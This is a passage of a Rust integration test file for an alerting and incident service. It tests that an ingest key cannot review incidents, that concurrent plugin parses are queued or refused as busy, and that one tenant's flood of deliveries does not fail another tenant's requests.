    assert!(confirmed["reviewed_at"].is_string());
    let (_, history) = send(app.as_key(
        &t.admin_key,
        Method::GET,
        &format!("/api/v1/incidents/{agent_incident}/history"),
    ))
    .await;
    assert!(
        history
            .as_array()
            .unwrap()
            .iter()
            .any(|h| h["field"] == "reviewed"),
        "{history}"
    );
    let (status, _) = send(app.as_key(
        &ingest,
        Method::POST,
        &format!("/api/v1/incidents/{agent_incident}/review"),
    ))
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "an ingest key cannot review");
}

/// 22 valid, CPU-heavy parses at once on a 2-core machine: each waits for a core and then gets its
/// whole deadline, so none times out (run all at once, 16 of 22 used to); with a short queue the
/// calls that do not fit are refused as busy, never failed as faults.
#[tokio::test]
async fn concurrent_plugin_calls_wait_for_a_core_instead_of_timing_out() {
    use nightowl::plugins::runtime::CallError;
    let alerts: Vec<Value> = (0..5000)
        .map(|i| json!({ "title": format!("disk {i} nearly full"), "severity": "warning", "labels": { "host": format!("h{i}") } }))
        .collect();
    let body = Value::Array(alerts).to_string().into_bytes();

    // Two slots, as on the 2-core machine the defect was found on, whatever this machine has.
    let app = TestApp::spawn_with_plugins(&["generic"], |c| c.plugin_concurrency = Some(2)).await;
    let calls: Vec<_> = (0..22)
        .map(|_| {
            let (app_ref, body) = (TestAppRef(app.state.clone()), body.clone());
            tokio::spawn(async move { app_ref.parse(body).await })
        })
        .collect();
    for call in calls {
        assert_eq!(call.await.unwrap().map_err(|e| e.to_string()), Ok(5000));
    }

    let small = TestApp::spawn_with_plugins(&["generic"], |c| {
        c.plugin_queue = 2;
        c.plugin_concurrency = Some(2);
    })
    .await;
    let calls: Vec<_> = (0..22)
        .map(|_| {
            let app_ref = TestAppRef(small.state.clone());
            let body = body.clone();
            tokio::spawn(async move { app_ref.parse(body).await })
        })
        .collect();
    let (mut ok, mut busy) = (0, 0);
    for call in calls {
        match call.await.unwrap() {
            Ok(5000) => ok += 1,
            Err(CallError::Busy) => busy += 1,
            other => panic!("neither parsed nor refused as busy: {other:?}"),
        }
    }
    assert!(busy > 0 && ok > 0, "ok {ok}, busy {busy}");
}

/// The server state, to call the runtime from spawned tasks.
struct TestAppRef(nightowl::state::AppState);

impl TestAppRef {
    async fn parse(&self, body: Vec<u8>) -> Result<usize, nightowl::plugins::runtime::CallError> {
        let plugin = self.0.plugins.get("generic").unwrap();
        let req = nightowl::plugins::InboundRequest {
            method: "POST".into(),
            path: "/".into(),
            query: None,
            headers: vec![("content-type".into(), "application/json".into())],
            body,
            public_url: "/".into(),
        };
        self.0
            .plugins
            .runtime()
            .parse(
                &plugin.manifest,
                plugin.source().unwrap(),
                "t",
                Default::default(),
                &req,
            )
            .await
            .map(|alerts| alerts.len())
    }
}

/// Tenant A floods the API with large deliveries on a small pool; tenant B's requests all succeed
/// at once meanwhile, because A's requests hold at most their share of the connections. A's own
/// excess is answered 503 with `Retry-After`, never 500.
#[tokio::test]
async fn one_tenants_flood_does_not_fail_another_tenants_requests() {
    let app = TestApp::spawn_custom(2, &["generic"], |c| c.max_alerts_per_delivery = 2000).await;
    let (a, b) = (app.tenant().await, app.tenant().await);
    let delivery = |d: usize| {
        Value::Array(
            (0..1500)
                .map(|i| json!({ "title": format!("flood {d} {i}"), "fingerprint": format!("f{d}-{i}"), "severity": "info" }))
                .collect(),
        )
        .to_string()
    };
    // The baseline, measured in this run: how long one of A's deliveries takes alone.
    let started = std::time::Instant::now();
    let (status, _) = deliver(&app, &a, "generic", delivery(999)).await;
    assert_eq!(status, StatusCode::OK);
    let one_delivery = started.elapsed();
    let flood: Vec<_> = (0..30)
        .map(|d| {
            let body = delivery(d);
            let req = app
                .as_key(&a.admin_key, Method::POST, "/api/v1/webhooks/generic")
                .header("content-type", "application/json")
                .body(body);
            tokio::spawn(async move {
                let response = req.send().await.unwrap();
                (response.status(), response.headers().contains_key("retry-after"))
            })
        })
        .collect();
    // Let the flood take the pool.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let mut slowest = std::time::Duration::ZERO;
    for i in 0..10 {
        let started = std::time::Instant::now();
        let (status, body) = send(app.as_key(&b.admin_key, Method::GET, "/api/v1/alerts")).await;
        slowest = slowest.max(started.elapsed());
        assert_eq!(
            status,
            StatusCode::OK,
            "tenant B's request {i} during A's flood: {body}"
        );
        let (status, body) = deliver(
            &app,
            &b,
            "generic",
            json!({ "title": format!("b {i}") }).to_string(),
        )
        .await;
        assert_eq!(
            status,
            StatusCode::OK,
            "tenant B's delivery {i} during A's flood: {body}"
        );
    }
    // B never waits for A's backlog: not even for most of one of A's deliveries (without the shares, B's
    // requests queued behind A's for several of them, and past the pool's timeout under load).
    println!("slowest B request {slowest:?}; one A delivery alone {one_delivery:?}");
    assert!(
        slowest < one_delivery / 4,
        "tenant B waited {slowest:?}, most of one of A's deliveries ({one_delivery:?})"
    );
    for task in flood {
        let (status, retry_after) = task.await.unwrap();
        assert!(
            status == StatusCode::OK || (status == StatusCode::SERVICE_UNAVAILABLE && retry_after),
            "tenant A got {status}"
        );
    }
}
